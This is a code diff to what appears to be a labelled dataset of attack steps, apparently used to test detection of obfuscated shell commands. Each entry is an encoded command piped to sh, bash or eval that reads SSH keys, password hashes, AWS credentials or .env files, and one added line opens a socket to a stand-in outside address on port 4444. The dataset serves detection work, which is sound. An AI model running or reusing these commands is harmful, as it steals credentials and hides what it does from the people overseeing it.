@@ -140,6 +140,8 @@ export const ATTACKS: LabelledStep[] = [
   exec("base64 herestring", "base64 -d <<< Y2F0IH4vLnNzaC9pZF9yc2E= | sh", { hiddenCode: true, secret: "ssh-private-key" }),
   exec("hex payload to sh", "echo 636174202f6574632f736861646f77 | xxd -r -p | sh", { hiddenCode: true, secret: "system-password-hashes" }),
   exec("eval of base64", 'eval "$(echo Y2F0IH4vLmF3cy9jcmVkZW50aWFscw== | base64 -d)"', { hiddenCode: true, secret: "aws-credentials" }),
+  exec("python exec(b64decode)", `python3 -c "import base64;exec(base64.b64decode('aW1wb3J0IHNvY2tldDtzPXNvY2tldC5jcmVhdGVfY29ubmVjdGlvbigoJzE5OC41MS4xMDAuNDAnLDQ0NDQpKQ=='))"`, { hiddenCode: true, connects: "198.51.100.40:4444" }),
+  exec("node eval(Buffer.from base64)", `node -e "eval(Buffer.from('cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWNTeW5jKCdjYXQgfi8uYXdzL2NyZWRlbnRpYWxzJyk=','base64').toString())"`, { hiddenCode: true, secret: "aws-credentials" }),
   exec("printf hex escapes to bash", "printf '\\x63\\x61\\x74\\x20\\x2e\\x65\\x6e\\x76' | bash", { secret: "dotenv" }),
 
   // Persistence.
